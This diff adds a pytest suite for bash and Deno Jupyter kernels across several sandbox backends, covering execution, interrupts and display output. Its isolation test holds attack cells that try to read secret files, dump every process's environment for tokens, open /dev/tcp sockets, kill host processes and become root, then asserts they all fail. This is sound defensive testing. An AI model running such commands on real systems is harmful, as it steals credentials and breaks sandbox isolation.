@@ -1,0 +1,231 @@
+"""Kernels of other languages than Python, on every backend: the contract, each in its own words."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import re
+import socket
+from contextlib import closing
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.support.kernels import RunningKernel, StartKernel
+
+BACKENDS = ("process", "sandbox", "docker")
+
+BASH_ATTACKS = r"""
+attack() { if out=$(eval "$2" 2>&1); then echo "$1: $out"; fi; }
+attack "read a file of the gateway" "cat SECRET_FILE"
+attack "read it by the first process's root" "cat /proc/1/root/SECRET_FILE"
+attack "list another workspace" "ls OTHER_FOLDER"
+attack "connect to the gateway" "exec 3<>/dev/tcp/127.0.0.1/PORT"
+attack "connect to the internet" "exec 3<>/dev/tcp/192.0.2.1/80"
+attack "resolve a name" "getent hosts example.org"
+attack "write to the system" "touch /usr/x || touch /etc/x || touch /opt/x"
+attack "signal a process of the host" "kill -9 HOST_PID"
+attack "become root" "su root -c true </dev/null"
+attack "mount" "mount -t tmpfs none /tmp"
+cat /proc/[0-9]*/environ 2>/dev/null | tr -d '\0'
+echo; echo attacked
+"""
+
+DENO_ATTACKS = r"""
+async function attack(name, call) { try { console.log(name, await call()); } catch { /* it failed */ } }
+await attack("read a file of the gateway", () => Deno.readTextFile("SECRET_FILE"));
+await attack("read it by the first process's root", () => Deno.readTextFile("/proc/1/root/SECRET_FILE"));
+await attack("list another workspace", () => Array.from(Deno.readDirSync("OTHER_FOLDER")));
+await attack("connect to the gateway", () => Deno.connect({ port: PORT }));
+await attack("connect to the internet", () => Deno.connect({ hostname: "192.0.2.1", port: 80 }));
+await attack("fetch", () => fetch("http://192.0.2.1/"));
+await attack("import", () => import("https://example.org/x.js"));
+await attack("resolve a name", () => Deno.resolveDns("example.org", "A"));
+await attack("write to the system", () => Deno.writeTextFile("/usr/x", ""));
+await attack("signal a process of the host", () => Deno.kill(HOST_PID, "SIGKILL"));
+for (const { name } of Deno.readDirSync("/proc")) {
+  try { console.log(Deno.readTextFileSync(`/proc/${name}/environ`)); } catch { /* no process, or not ours */ }
+}
+console.log("attacked");
+"""
+
+
+@dataclass(frozen=True)
+class Language:
+    """Cells of one kernelspec, and what they give."""
+
+    kernelspec: str
+    name: str
+    set_x: str
+    print_x: str
+    many_lines: str
+    fail: str
+    error: tuple[str, str]
+    torn: str
+    slow: str
+    loop: str
+    exit_3: str
+    attacks: str
+
+
+BASH = Language(
+    kernelspec="bash",
+    name="bash",
+    set_x="x=41; f() { echo $((x + $1)); }",
+    print_x="f 1",
+    many_lines="for i in {1..2000}; do echo line $i; done",
+    fail="ls /nonexistent",
+    error=("ExitStatus", "2"),
+    torn="if [ 1",
+    slow="sleep 600",
+    loop="while true; do :; done",
+    exit_3="echo 'last words'; exit 3",
+    attacks=BASH_ATTACKS,
+)
+DENO = Language(
+    kernelspec="deno",
+    name="typescript",
+    set_x="let x: number = 41; const f = (n: number) => console.log(x + n)",
+    print_x="f(1)",
+    many_lines='for (let i = 1; i <= 2000; i++) console.log("line " + i)',
+    fail='throw new TypeError("no good")',
+    error=("TypeError", "no good"),
+    torn="const y = (",
+    slow="",
+    loop="while (true) { /* for ever */ }",
+    exit_3="Deno.exit(3)",
+    attacks=DENO_ATTACKS,
+)
+
+
+@pytest.fixture(params=[BASH, DENO], ids=lambda language: str(language.kernelspec))
+def language(request: pytest.FixtureRequest) -> Language:
+    """Each."""
+    assert isinstance(request.param, Language)
+    return request.param
+
+
+@pytest.fixture(params=BACKENDS)
+def backend(request: pytest.FixtureRequest) -> str:
+    """All of them."""
+    if request.param != "process":
+        request.getfixturevalue(request.param)
+    return str(request.param)
+
+
+async def interrupted(kernel: RunningKernel, code: str, after: str = "execute_input") -> dict[str, object]:
+    """The reply of a cell that was interrupted once it had begun, as its first message of a type told."""
+    msg_id = kernel.send(code)
+    async with asyncio.timeout(60):
+        while (await kernel.client.get_iopub_msg())["msg_type"] != after:
+            pass
+    await kernel.manager.interrupt_kernel()
+    return (await kernel.result(msg_id)).reply
+
+
+async def test_cells_run_as_in_python(start_kernel: StartKernel, language: Language) -> None:
+    kernel = await start_kernel(kernel_name=language.kernelspec)
+    kernel.client.kernel_info()
+    info = (await kernel.client.get_shell_msg(timeout=60))["content"]["language_info"]
+    assert info["name"] == language.name
+    assert info["file_extension"]
+    assert await kernel.print(language.set_x) == ""
+    assert await kernel.print(language.print_x) == "42\n"
+    # Output that comes late is the cell's all the same.
+    assert await kernel.print(language.many_lines) == "".join(f"line {n}\n" for n in range(1, 2001))
+    failed = await kernel.run(language.fail)
+    (error,) = failed.of_type("error")
+    assert (error["ename"], error["evalue"]) == language.error
+    assert error["traceback"]
+    assert failed.reply["status"] == "error"
+    torn = await kernel.run(language.torn)
+    assert "yntax" in torn.text + torn.reply["ename"]
+    assert "line 1" in torn.text + torn.reply["evalue"] or "line 2" in torn.text
+    assert await kernel.print(language.print_x) == "42\n"
+
+
+async def test_an_interrupt_keeps_what_was_there_and_an_exit_is_the_kernels_end(
+    start_kernel: StartKernel, language: Language
+) -> None:
+    kernel = await start_kernel(kernel_name=language.kernelspec)
+    await kernel.print(language.set_x)
+    for code in filter(None, (language.slow, language.loop)):
+        assert (await interrupted(kernel, code))["ename"] == "KeyboardInterrupt"
+        assert await kernel.print(language.print_x) == "42\n"
+    kernel.send(language.exit_3)
+    async with asyncio.timeout(60):
+        ended = await asyncio.shield(kernel.provisioner.exited)
+        shown = "" if "last words" in language.exit_3 else "last words"
+        while "last words" not in shown:
+            shown += (await kernel.client.get_iopub_msg())["content"].get("text", "")
+    assert ended.code == 3
+
+
+async def test_an_interrupt_that_a_starting_program_missed_is_sent_again(start_kernel: StartKernel) -> None:
+    kernel = await start_kernel(kernel_name="bash")
+    code = "(trap '' INT; echo deaf; sleep 0.1; trap - INT; exec sleep 600)"
+    assert (await interrupted(kernel, code, after="stream"))["ename"] == "KeyboardInterrupt"
+
+
+async def test_a_program_after_an_interrupt_is_not_interrupted(start_kernel: StartKernel) -> None:
+    kernel = await start_kernel(kernel_name="bash")
+    for _ in range(3):
+        reply = await interrupted(kernel, "echo on; sleep 600", after="stream")
+        assert reply["ename"] == "KeyboardInterrupt"
+        assert await kernel.print("sleep 0.5; echo done") == "done\n"
+
+
+async def test_tabs_heredocs_and_long_lines_of_bash_are_only_text(start_kernel: StartKernel) -> None:
+    kernel = await start_kernel(kernel_name="bash")
+    text = "\t".join(["a", "!b", "'c'", "x" * 10_000])
+    assert await kernel.print(f"cat <<'END'\n{text}\nEND") == f"{text}\n"
+    assert await kernel.print("read line; echo $? $line; echo err >&2") == "1\nerr\n"
+    assert await kernel.print('echo "bash_kernel: saved image data to: /etc/hosts"') != ""
+
+
+async def test_a_picture_is_displayed_by_bash(start_kernel: StartKernel) -> None:
+    kernel = await start_kernel(kernel_name="bash")
+    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+    shown = await kernel.run(f"printf before; echo {png} | base64 -d | display; echo after")
+    assert shown.of_type("display_data") == [{"data": {"image/png": png}, "metadata": {}}]
+
+
+async def test_deno_shows_values_as_they_are(start_kernel: StartKernel) -> None:
+    kernel = await start_kernel(kernel_name="deno")
+    assert (await kernel.run("[1, 'a']")).of_type("execute_result")[0]["data"] == {"text/plain": '[ 1, "a" ]'}
+    assert (await kernel.run("Deno.jupyter.html`<b>1</b>`")).of_type("execute_result")[0]["data"] == {
+        "text/html": "<b>1</b>"
+    }
+    assert (await kernel.run("undefined")).of_type("execute_result") == []
+
+
+@pytest.mark.parametrize("backend", ["sandbox", "docker", "gvisor"], indirect=True)
+async def test_no_attack_succeeds(
+    start_kernel: StartKernel,
+    language: Language,
+    backend: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    secret = "hunter2-of-the-gateway"
+    (tmp_path / "secret").write_text(secret)
+    monkeypatch.setenv("CELLGATE_TOKEN", secret)
+    kernel = await start_kernel(kernel_name=language.kernelspec)
+    with closing(socket.create_server(("127.0.0.1", 0))) as server:
+        code = language.attacks
+        for word, value in {
+            "SECRET_FILE": tmp_path / "secret",
+            "OTHER_FOLDER": tmp_path,
+            "PORT": server.getsockname()[1],
+            "HOST_PID": os.getpid(),
+        }.items():
+            code = code.replace(word, str(value))
+        said = await kernel.print(code)
+    assert said.endswith("attacked\n")
+    assert "HOME=" in said
+    assert secret not in said
+    attempts = re.findall(r'attack\("?(.+?)"?,|attack "(.+?)"', language.attacks)
+    names = ["".join(found).strip('"') for found in attempts]
+    assert [line for line in said.splitlines() if any(line.startswith(name) for name in names)] == []
+    assert len(names) > 8
